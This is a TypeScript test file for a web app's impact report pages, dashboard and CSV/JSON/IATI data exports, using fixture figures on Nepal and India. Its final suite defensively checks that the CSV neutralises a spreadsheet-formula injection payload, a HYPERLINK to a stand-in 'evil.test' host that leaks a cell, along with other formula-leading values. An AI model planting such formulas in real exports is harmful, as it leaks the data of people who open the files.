import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { XMLParser } from 'fast-xml-parser';
import { createTestLabels } from '../../../../test/support/content-fixtures.ts';
import { iatiSchemaErrors, xmllintSkipReason } from '../../../../test/support/iati-schema.ts';
import { countMatches, mainOf } from '../../../../test/support/page-html.ts';
import { buildTestApp } from '../../../../test/support/test-app.ts';
import { describeEachDatabase } from '../../../../test/support/test-databases.ts';
import { createContentItem } from '../../../domain/content/content-service.ts';
import { createOrganization } from '../../../domain/organizations/organization-service.ts';

const NEPAL_LINES = [
  {
    component: 'Labour standards',
    indicator: 'Made aware of their rights through campaigns',
    count: 200_000,
    womenShare: 16,
    youthShare: 8,
  },
  {
    component: 'Labour standards',
    indicator: 'Basic training',
    count: 1_236,
    womenShare: 32,
    youthShare: 55,
  },
  // A comma, quotes and markup: the CSV must quote them and the pages escape them.
  {
    component: 'Labour standards',
    indicator: 'Legal assistance, "in court" & <b>out</b>',
    count: 270,
    womenShare: null,
    youthShare: null,
  },
  {
    component: 'Vocational skills',
    indicator: 'Tailoring',
    count: 55,
    womenShare: 82,
    youthShare: 78,
  },
];

/** Every `style` the CSP would refuse: elements and attributes, in HTML and SVG alike. */
function inlineStyles(html: string): string[] {
  return [...html.matchAll(/<style[\s>]|\sstyle=/gi)].map((match) => match[0]);
}

/** The text of the rows of the page's indicator table, cell by cell. */
function tableRows(html: string): string[] {
  const table = html.match(/<table class="figures">([\s\S]*?)<\/table>/)?.[1] ?? '';
  return [...table.matchAll(/<tr[^>]*>([\s\S]*?)<\/tr>/g)].map((row) =>
    [...(row[1] ?? '').matchAll(/<t[hd][^>]*>([\s\S]*?)<\/t[hd]>/g)]
      .map((cell) => (cell[1] ?? '').replace(/<[^>]+>/g, ''))
      .join(' | '),
  );
}

describeEachDatabase('impact: report pages, dashboard and open data', (database) => {
  let app: FastifyInstance;

  before(async () => {
    const { db } = database();
    await createTestLabels(db);
    await createOrganization(db, {
      acronym: 'GEFONT',
      name: 'General Federation of Nepalese Trade Unions',
      kind: 'trade-union',
      relationship: 'member',
      country: 'nepal',
    });
    await createOrganization(db, {
      acronym: 'DGD',
      name: 'Belgian Development Directorate',
      kind: 'donor',
      relationship: 'other',
      country: null,
    });
    await createContentItem(db, {
      type: 'report',
      title: 'Nepal 2020 in numbers',
      html: '<p>A year of lockdown.</p>',
      status: 'published',
      publishedAt: '2021-02-03T06:00:00Z',
      fields: {
        country: 'nepal',
        year: 2020,
        periodStart: 2017,
        periodEnd: 2021,
        peopleReached: 400_000,
        budget: { amount: 87_813, currency: 'EUR' },
        partners: ['GEFONT'],
        donors: ['DGD'],
        indicators: NEPAL_LINES,
        source: 'GEFONT annual report',
      },
    });
    await createContentItem(db, {
      type: 'report',
      title: 'India 2019 in numbers',
      html: '<p>Results.</p>',
      status: 'published',
      publishedAt: '2020-02-03T06:00:00Z',
      fields: {
        country: 'india',
        year: 2019,
        peopleReached: 1_170_000,
        indicators: [{ component: 'Health', indicator: 'Clinics', count: 10 }],
      },
    });
    await createContentItem(db, {
      type: 'report',
      title: 'India 2020, not yet approved',
      html: '<p>Draft.</p>',
      fields: { country: 'india', year: 2020, indicators: [] },
    });
    app = await buildTestApp(database());
  });
  after(async () => {
    await app.close();
  });

  it('shows a report’s facts, formatted for the reader, with its organisations linked', async () => {
    const response = await app.inject('/impact/nepal/2020');
    assert.equal(response.statusCode, 200);
    const main = mainOf(response.body);
    const facts = main.match(/<dl class="facts">([\s\S]*?)<\/dl>/)?.[1] ?? '';
    assert.match(facts, /<dt>Country<\/dt><dd><a href="\/countries\/nepal">Nepal<\/a><\/dd>/);
    assert.match(facts, /<dt>Year<\/dt><dd>2020<\/dd>/);
    assert.match(facts, /<dt>Programme period<\/dt><dd>2017–2021<\/dd>/);
    assert.match(facts, /<dt>People reached<\/dt><dd>400,000<\/dd>/);
    assert.match(facts, /<dt>Budget<\/dt><dd>€87,813<\/dd>/);
    assert.match(
      facts,
      /<dt>Donors<\/dt><dd><a href="\/organizations\/dgd"><abbr title="Belgian Development Directorate">DGD<\/abbr>/,
    );
    assert.match(facts, /<dt>Partners<\/dt><dd><a href="\/organizations\/gefont">/);
    assert.match(main, /<p>A year of lockdown.<\/p>/);
    assert.match(main, /Figures: GEFONT annual report\./);
  });

  it('tables the indicator lines by component, with totals and unknown shares said so', async () => {
    const { body } = await app.inject('/impact/nepal/2020');
    assert.deepEqual(tableRows(body), [
      'Indicator | People | Women | Young people (under 35)',
      'Labour standards',
      'Made aware of their rights through campaigns | 200,000 | 16% | 8%',
      'Basic training | 1,236 | 32% | 55%',
      'Legal assistance, &quot;in court&quot; &amp; &lt;b>out&lt;/b> | 270 | not known | not known',
      // Shares over the two lines that know them: (200000·16 + 1236·32) / 201236.
      'Total, Labour standards | 201,506 | 16% | 8%',
      'Vocational skills',
      'Tailoring | 55 | 82% | 78%',
      'Total, Vocational skills | 55 | 82% | 78%',
      'All lines | 201,561 | 16% | 8%',
    ]);
    assert.match(body, /<caption id="indicators-caption">Results in 2020, by component<\/caption>/);
    assert.equal(countMatches(body, /<th scope="col">/g), 4);
    assert.equal(countMatches(body, /<th scope="rowgroup" colspan="4"/g), 2);
  });

  it('draws the indicators as SVG charts with a text alternative and no inline style', async () => {
    const { body } = await app.inject('/impact/nepal/2020');
    assert.equal(countMatches(body, /<svg [^>]*role="img"/g), 2);
    for (const id of ['chart-counts', 'chart-shares']) {
      assert.match(body, new RegExp(`aria-labelledby="${id}-title ${id}-desc"`));
      assert.match(
        body,
        new RegExp(`<title id="${id}-title">[^<]+</title><desc id="${id}-desc">[^<]+</desc>`),
      );
    }
    // The longest line takes the full bar span; the others are drawn to the same scale.
    assert.match(body, /<rect class="bar" y="[^"]+" width="68%"/);
    assert.match(body, />200,000<\/text>/);
    assert.match(body, />women: not known<\/text>/);
    assert.deepEqual(inlineStyles(body), []);
    assert.doesNotMatch(body, /<script/);
  });

  it('answers 404 for a report that is not public, an unknown one, or a malformed year', async () => {
    for (const url of [
      '/impact/india/2020',
      '/impact/nepal/2019',
      '/impact/atlantis/2020',
      '/impact/nepal/20',
      '/impact/nepal/20200',
      '/impact/nepal',
      '/impact/Nepal/2020',
    ]) {
      const response = await app.inject(url);
      assert.equal(response.statusCode, 404, url);
      assert.match(String(response.headers['content-type']), /^text\/html/, url);
    }
  });

  it('charts and tables every public report on the dashboard, with links and downloads', async () => {
    const response = await app.inject('/impact');
    assert.equal(response.statusCode, 200);
    const main = mainOf(response.body);
    assert.equal(countMatches(main, /<svg [^>]*role="img"/g), 3);
    assert.equal(countMatches(main, /<desc id="chart-[a-z]+-desc">/g), 3);
    assert.deepEqual(tableRows(main), [
      'Report | People reached | Women | Young people (under 35) | Budget',
      'Nepal 2020 | 400,000 | 16% | 8% | €87,813',
      'India 2019 | 1,170,000 | not known | not known | not known',
    ]);
    assert.match(main, /<th scope="row"><a href="\/impact\/nepal\/2020">Nepal 2020<\/a><\/th>/);
    assert.doesNotMatch(main, /not yet approved|\/impact\/india\/2020/);
    for (const path of ['/impact.csv', '/impact.json', '/impact/iati.xml']) {
      assert.match(main, new RegExp(`<a href="${path}" type="[^"]+">`));
    }
    assert.deepEqual(inlineStyles(response.body), []);
  });

  it('gives a report’s teaser its country, year and reach', async () => {
    const { body } = await app.inject('/countries/nepal');
    assert.match(body, /<p class="meta report-meta">Nepal · 2020 · 400,000 people reached<\/p>/);
  });

  it('offers every indicator line as CSV, unknown shares empty', async () => {
    const response = await app.inject('/impact.csv');
    assert.equal(response.statusCode, 200);
    assert.match(String(response.headers['content-type']), /^text\/csv; charset=utf-8/);
    const rows = parseCsv(response.body, { columns: true }) as Record<string, string>[];
    assert.equal(rows.length, NEPAL_LINES.length + 1);
    assert.deepEqual(Object.keys(rows[0] ?? {}), [
      'country',
      'country_name',
      'year',
      'component',
      'indicator',
      'count',
      'women_share',
      'youth_share',
      'report_url',
    ]);
    assert.deepEqual(rows[2], {
      country: 'nepal',
      country_name: 'Nepal',
      year: '2020',
      component: 'Labour standards',
      indicator: 'Legal assistance, "in court" & <b>out</b>',
      count: '270',
      women_share: '',
      youth_share: '',
      report_url: 'http://site.test/impact/nepal/2020',
    });
    assert.deepEqual(rows.at(-1), {
      country: 'india',
      country_name: 'India',
      year: '2019',
      component: 'Health',
      indicator: 'Clinics',
      count: '10',
      women_share: '',
      youth_share: '',
      report_url: 'http://site.test/impact/india/2019',
    });
  });

  it('offers the reports and their lines as JSON', async () => {
    const response = await app.inject('/impact.json');
    assert.equal(response.statusCode, 200);
    assert.match(String(response.headers['content-type']), /^application\/json/);
    const data = response.json();
    assert.equal(data.indicators.length, NEPAL_LINES.length + 1);
    assert.deepEqual(data.indicators[0], {
      country: 'nepal',
      country_name: 'Nepal',
      year: 2020,
      component: 'Labour standards',
      indicator: 'Made aware of their rights through campaigns',
      count: 200_000,
      women_share: 16,
      youth_share: 8,
      report_url: 'http://site.test/impact/nepal/2020',
    });
    assert.equal(data.indicators[2].women_share, null);
    const [nepal, india] = data.reports;
    assert.deepEqual(nepal, {
      country: 'nepal',
      country_name: 'Nepal',
      iso_code: 'NP',
      year: 2020,
      title: 'Nepal 2020 in numbers',
      url: 'http://site.test/impact/nepal/2020',
      period_start: 2017,
      period_end: 2021,
      people_reached: 400_000,
      budget: { amount: 87_813, currency: 'EUR' },
      donors: [
        {
          name: 'Belgian Development Directorate',
          acronym: 'DGD',
          url: 'http://site.test/organizations/dgd',
        },
      ],
      partners: [
        {
          name: 'General Federation of Nepalese Trade Unions',
          acronym: 'GEFONT',
          url: 'http://site.test/organizations/gefont',
        },
      ],
      totals: { count: 201_561, women_share: 16.1, youth_share: 8.3 },
    });
    assert.equal(india.budget, null);
    assert.equal(india.totals.women_share, null);
  });

  it('offers the programmes as IATI activities', async () => {
    const response = await app.inject('/impact/iati.xml');
    assert.equal(response.statusCode, 200);
    assert.match(String(response.headers['content-type']), /^application\/xml/);
    const parsed = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' }).parse(
      response.body,
    );
    const activities = parsed['iati-activities']['iati-activity'];
    assert.equal(activities.length, 2);
    assert.equal(activities[0]['recipient-country'].code, 'NP');
    assert.equal(activities[1]['recipient-country'].code, 'IN');
    assert.equal(activities[0].budget.value['#text'], 87_813);
  });

  it('offers an IATI file valid against the 2.03 schema', { skip: xmllintSkipReason }, async () => {
    const response = await app.inject('/impact/iati.xml');
    assert.equal(await iatiSchemaErrors(response.body), '');
  });
});

describeEachDatabase('impact without reports', (database) => {
  let app: FastifyInstance;
  before(async () => {
    app = await buildTestApp(database());
  });
  after(async () => {
    await app.close();
  });

  it('says there is nothing yet, gives empty data, and no IATI file (it needs an activity)', async () => {
    const page = await app.inject('/impact');
    assert.equal(page.statusCode, 200);
    assert.match(mainOf(page.body), /No country reports have been published yet\./);
    assert.doesNotMatch(page.body, /<svg/);
    const csv = await app.inject('/impact.csv');
    // The header alone, so a reader's columns are known before the first report.
    assert.deepEqual(parseCsv(csv.body, { columns: true }), []);
    assert.match(csv.body, /^country,country_name,year,/);
    assert.deepEqual((await app.inject('/impact.json')).json(), { reports: [], indicators: [] });
    assert.equal((await app.inject('/impact/iati.xml')).statusCode, 404);
  });
});

describeEachDatabase('impact downloads with hostile text', (database) => {
  let app: FastifyInstance;
  const formula = '=HYPERLINK("http://evil.test/?"&A1,"Click")';

  before(async () => {
    const { db } = database();
    await createTestLabels(db);
    await createContentItem(db, {
      type: 'report',
      title: 'Nepal 2021 in numbers',
      html: '<p>Results.</p>',
      status: 'published',
      publishedAt: '2022-02-03T06:00:00Z',
      fields: {
        country: 'nepal',
        year: 2021,
        indicators: [
          { component: '+Health', indicator: formula, count: 12, womenShare: 50 },
          { component: '@Skills', indicator: '-1+2', count: 3 },
          { component: 'Health', indicator: 'Clinics, = not a formula here', count: 4 },
        ],
      },
    });
    app = await buildTestApp(database());
  });
  after(async () => {
    await app.close();
  });

  it('hardening 11: the CSV gives formulas as text and saves as impact.csv; JSON keeps them', async () => {
    for (const attempt of ['miss', 'hit']) {
      const response = await app.inject('/impact.csv');
      assert.equal(response.statusCode, 200);
      assert.equal(response.headers['x-cache'], attempt);
      assert.equal(response.headers['content-disposition'], 'attachment; filename="impact.csv"');
      const rows = parseCsv(response.body, { columns: true }) as Record<string, string>[];
      assert.deepEqual(
        rows.map((row) => [row.component, row.indicator, row.count, row.women_share]),
        [
          ['Health', 'Clinics, = not a formula here', '4', ''],
          ["'+Health", `'${formula}`, '12', '50'],
          ["'@Skills", "'-1+2", '3', ''],
        ],
      );
    }
    const json = await app.inject('/impact.json');
    assert.equal(json.headers['content-disposition'], 'inline; filename="impact.json"');
    assert.deepEqual(
      json.json().indicators.map((row: Record<string, unknown>) => [row.component, row.indicator]),
      [
        ['Health', 'Clinics, = not a formula here'],
        ['+Health', formula],
        ['@Skills', '-1+2'],
      ],
    );
    const xml = await app.inject('/impact/iati.xml');
    assert.equal(xml.headers['content-disposition'], 'inline; filename="iati-activities.xml"');
  });
});
